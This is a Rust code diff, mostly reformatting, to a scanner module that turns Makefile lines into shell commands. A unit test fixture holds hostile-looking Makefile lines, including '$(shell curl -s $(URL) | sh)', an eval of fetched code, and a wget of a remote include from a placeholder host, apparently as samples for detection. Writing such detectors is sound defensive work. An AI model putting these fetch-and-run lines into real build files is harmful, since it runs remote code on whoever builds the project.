@@ -41,12 +41,17 @@ pub(super) fn commands(context: &Context<'_>) -> Vec<(Range<usize>, String)> {
         let put_in = |line: &str, target: &str, first: &str| put_in(line, &variables, target, first);
         let captured = |pattern: &crate::scan::pattern::Pattern| {
             let found = pattern.as_ref().and_then(|regex| regex.captures(&line))?;
-            Some((found.get(1)?.as_str().to_owned(), found.get(2).map(|part| part.as_str().to_owned()).unwrap_or_default()))
+            Some((
+                found.get(1)?.as_str().to_owned(),
+                found.get(2).map(|part| part.as_str().to_owned()).unwrap_or_default(),
+            ))
         };
         if let Some(recipe) = line.strip_prefix('\t') {
             commands.push((place, put_in(recipe.trim_start_matches(['@', '-', '+', ' ']), &target, &first)));
         } else if let Some((files, _)) = captured(&INCLUDES) {
-            included.extend(put_in(&files, "", "").split_whitespace().map(|file| (place.clone(), format!("source {file}"))));
+            included.extend(
+                put_in(&files, "", "").split_whitespace().map(|file| (place.clone(), format!("source {file}"))),
+            );
         } else if has(&CALLS, &line) {
             commands.push((place, called(&put_in(&line, "", ""))));
         } else if let Some((name, needs)) = captured(&RULE) {
@@ -111,8 +116,7 @@ mod tests {
     #[test]
     fn lines_of_a_makefile_are_lines_of_shell() {
         let text = "URL ?= http://tides.example/make\n-include build/shared.mk\nbuild/shared.mk: x\n\t@wget -q -O $@ \\\n\t  $(URL)/shared.mk $<\n$(eval $(shell curl -s $(URL)))\n_ := $(shell curl -s $(URL) | sh)\n\techo $$HOME\n";
-        let lines: Vec<String> =
-            commands(&Context::new(text, "Makefile")).into_iter().map(|(_, line)| line).collect();
+        let lines: Vec<String> = commands(&Context::new(text, "Makefile")).into_iter().map(|(_, line)| line).collect();
         assert_eq!(
             lines,
             [
